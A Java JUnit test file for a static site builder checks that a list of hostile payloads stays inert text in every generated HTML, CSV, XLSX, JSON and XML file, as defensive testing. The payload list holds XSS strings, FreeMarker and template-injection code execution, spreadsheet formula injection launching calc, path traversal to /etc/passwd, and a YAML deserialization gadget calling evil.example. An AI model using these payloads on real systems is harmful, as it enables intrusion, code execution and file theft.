package gongkai.hostile;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import gongkai.finding.Findings;
import gongkai.page.Edition;
import gongkai.review.Review;
import gongkai.review.ReviewPage;
import gongkai.review.Sarif;
import gongkai.site.Builder;
import gongkai.site.Checker;
import gongkai.site.Project;
import gongkai.site.ProjectReader;
import gongkai.site.Site;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.SortedMap;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.io.TempDir;

/**
 * Every text that comes from data, forms and documents stays text, in every file that is made of
 * it. What comes out is read by other parsers than wrote it, and compared with what harmless words
 * become.
 */
class HostileTest {
  static final String BASE = "https://example.org/juesuan";
  static final String HARMLESS = "无害的话№，一句接一句，长到要换行也还是无害的话";

  static final List<String> PAYLOADS =
      List.of(
          "\"'><evil onmouseover=alert(№)>甲</evil>",
          "</script><script>alert(№)</script>",
          "]]></text></title></desc></svg><svg onload=alert(№)><evil/>",
          "--><evil x='№'/><!--",
          "<!--<script>№",
          "</style></textarea></title></noscript><evil onerror=alert(№)>",
          "&lt;evil&gt;&#60;evil&#62;&amp;lt;evil&amp;gt;№",
          "\" onfocus=alert(№) autofocus style=x:y x=\"",
          "' onfocus=alert(№) autofocus style=x:y x='",
          "${8191*8191}#{8191*8191}<#assign 数=8191*8191>${数}<@数/>№",
          "${\"freemarker.template.utility.Execute\"?new()(\"id\")}№",
          "[=8191*8191]№",
          "=cmd|'/C calc'!A0№",
          "+1+cmd|'/C calc'!A0№",
          "-2+3+cmd|'/C calc'!A0№",
          "@SUM(1,№)*cmd|'/C calc'!A0",
          "[点](javascript:alert(№)) <javascript:alert(1)> [点](JaVa\\&#115;cript&colon;alert(1))",
          "[点](data:text/html,<evil>№) [点](vbscript:x) [点](file:///etc/passwd) [点](blob:x)",
          "![图](http://evil.example/№.png) ![图][№]",
          "**粗**{onclick=alert(№) style=x:y href=javascript:x src=x srcdoc=x target=x}",
          "\"},\"evil\":[№]});alert(1);//",
          "\\\"});alert(№);//",
          "../../../../etc/passwd№",
          "..\\..\\windows%2e%2e%2f№.con",
          "!!javax.script.ScriptEngineManager [!!java.net.URL [\"http://evil.example/№\"]]",
          "$1 \\1 \\\\ \\E \\Q № $0 ${0}",
          "{{收入№}}%s%n%1$s");

  private static Outputs harmless;

  /** What a project becomes: every file of the site and of the other editions, and the reviews. */
  record Outputs(SortedMap<String, byte[]> files, Set<String> filled) {}

  @BeforeAll
  static void build(@TempDir Path folder) throws IOException {
    harmless = outputs(folder, HARMLESS);
  }

  static Outputs outputs(Path folder, String payload) throws IOException {
    Set<String> filled = HostileProject.make(folder, payload);
    SortedMap<String, byte[]> files = new TreeMap<>();
    for (Edition edition : List.of(Edition.SITE, Edition.SINGLE, Edition.FRAGMENT)) {
      Project.Reading reading = ProjectReader.read(folder, Optional.empty());
      Site site = new Site();
      Findings findings =
          Builder.build(
              reading.project(),
              edition,
              Optional.of(BASE),
              Optional.empty(),
              1,
              (done, of) -> {},
              site::put);
      assertEquals(List.of(), faults(reading.findings(), findings));
      site.pages().forEach((name, file) -> files.put(edition + "/" + name, file));
    }
    Review review =
        Checker.check(
            ProjectReader.read(folder, Optional.empty()), Optional.empty(), 1, (done, of) -> {});
    files.put("review.html", ReviewPage.html(review).getBytes(StandardCharsets.UTF_8));
    files.put("findings.json", Sarif.json(review.outcome(), "1").getBytes(StandardCharsets.UTF_8));
    return new Outputs(files, filled);
  }

  /** What would keep a page from being made; what the words say may be found wrong. */
  private static List<String> faults(Findings... findings) {
    return Stream.of(findings)
        .flatMap(f -> f.sorted().stream())
        .filter(f -> f.isError() && f.rule().matches("(数据|模板|体例)-.*"))
        .filter(f -> !f.rule().equals("数据-14"))
        .map(Object::toString)
        .toList();
  }

  @Test
  void the_words_are_in_every_kind_of_file() {
    assertTrue(harmless.filled().size() >= 110, harmless.filled().size() + "");
    for (String kind : List.of("html", "csv", "xlsx", "json", "jsonld", "js", "xml")) {
      assertTrue(
          harmless.files().keySet().stream().anyMatch(name -> name.endsWith("." + kind)), kind);
    }
    String page =
        new String(
            harmless.files().get("SITE/mianzhu-yibao/2024/index.html"), StandardCharsets.UTF_8);
    assertTrue(page.split("无害的话").length > 200);
  }

  /** At once what can stand together; one by one in the gate. */
  @TestFactory
  Stream<DynamicTest> what_is_written_stays_what_it_is(@TempDir Path folder) {
    Shapes shapes = Shapes.of(harmless.files());
    List<String> together = PAYLOADS.stream().filter(p -> !isFormula(p)).toList();
    int third = together.size() / 3;
    return Stream.concat(
            Stream.of(
                    together.subList(0, third),
                    together.subList(third, 2 * third),
                    together.subList(2 * third, together.size()))
                .map(some -> String.join("", some)),
            PAYLOADS.stream().filter(HostileTest::isFormula))
        .map(payload -> stays(shapes, folder.resolve("p" + payload.hashCode()), payload));
  }

  private static boolean isFormula(String payload) {
    return "=+-@".indexOf(payload.charAt(0)) >= 0 && !payload.startsWith("-->");
  }

  static DynamicTest stays(Shapes shapes, Path folder, String payload) {
    return DynamicTest.dynamicTest(
        payload,
        () -> {
          Map<String, byte[]> files = outputs(folder, payload).files();
          shapes.require(files);
          assertFalse(printed(files).contains("67092481"), "a template was run");
        });
  }

  private static String printed(Map<String, byte[]> files) {
    StringBuilder all = new StringBuilder();
    files.forEach(
        (name, file) -> {
          if (!name.endsWith(".xlsx")) {
            all.append(new String(file, StandardCharsets.UTF_8));
          }
        });
    return all.toString();
  }
}
